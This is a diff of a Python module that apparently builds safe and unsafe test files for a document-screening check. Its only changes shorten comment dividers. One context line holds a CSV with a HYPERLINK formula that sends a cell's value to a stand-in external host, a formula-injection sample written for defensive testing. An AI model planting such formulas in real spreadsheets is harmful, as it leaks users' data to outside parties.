@@ -31,7 +31,7 @@ def _records(rng: np.random.Generator, count: int = 60) -> str:
     return formats.csv(head, people.records(rng, count))
 
 
-# ---- unsafe: PDF -------------------------------------------------------------------------
+# ---- unsafe: PDF ----------------------------------------------------------------------
 
 
 @lane.unsafe("pdf-scan", "scan-pixels", "report.pdf", at="page 2")
@@ -219,7 +219,7 @@ def _(rng):
     return pictures.rendered(plots.waterfall(rng), "pdf")
 
 
-# ---- unsafe: web pages and drawings ------------------------------------------------------
+# ---- unsafe: web pages and drawings ---------------------------------------------------
 
 
 @lane.unsafe("html-script", "active-content", "report.html")
@@ -409,7 +409,7 @@ def _(rng):
     )
 
 
-# ---- unsafe: workbooks -------------------------------------------------------------------
+# ---- unsafe: workbooks ----------------------------------------------------------------
 
 GOOD = {"Table 1": [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121]]}
 
@@ -484,7 +484,7 @@ def _(rng):
     return 'stage,n\nI,150\n"=HYPERLINK(""https://x.example.net/?""&B2,""II"")",141\n'
 
 
-# ---- unsafe: scanner and analysis files, under whatever name -----------------------------
+# ---- unsafe: scanner and analysis files, under whatever name --------------------------
 
 
 def _nifti(volume: np.ndarray) -> bytes:
@@ -563,7 +563,7 @@ for _name, (_file, _make) in RAW.items():
     )(lambda rng, make: make())
 
 
-# ---- unsafe: archives, disguises ---------------------------------------------------------
+# ---- unsafe: archives, disguises ------------------------------------------------------
 
 
 @lane.unsafe("zip-of-dicom", "archive", "results.zip", also=("raw-image",))
@@ -683,7 +683,7 @@ def _(rng):
     )
 
 
-# ---- safe ----------------------------------------------------------------------------
+# ---- safe -------------------------------------------------------------------------
 
 for _name in ("roc", "loss", "forest", "boxes", "survival", "correlation", "calibration", "bars"):
     lane.safe(f"pdf-{_name}", f"{_name}.pdf", _name)(
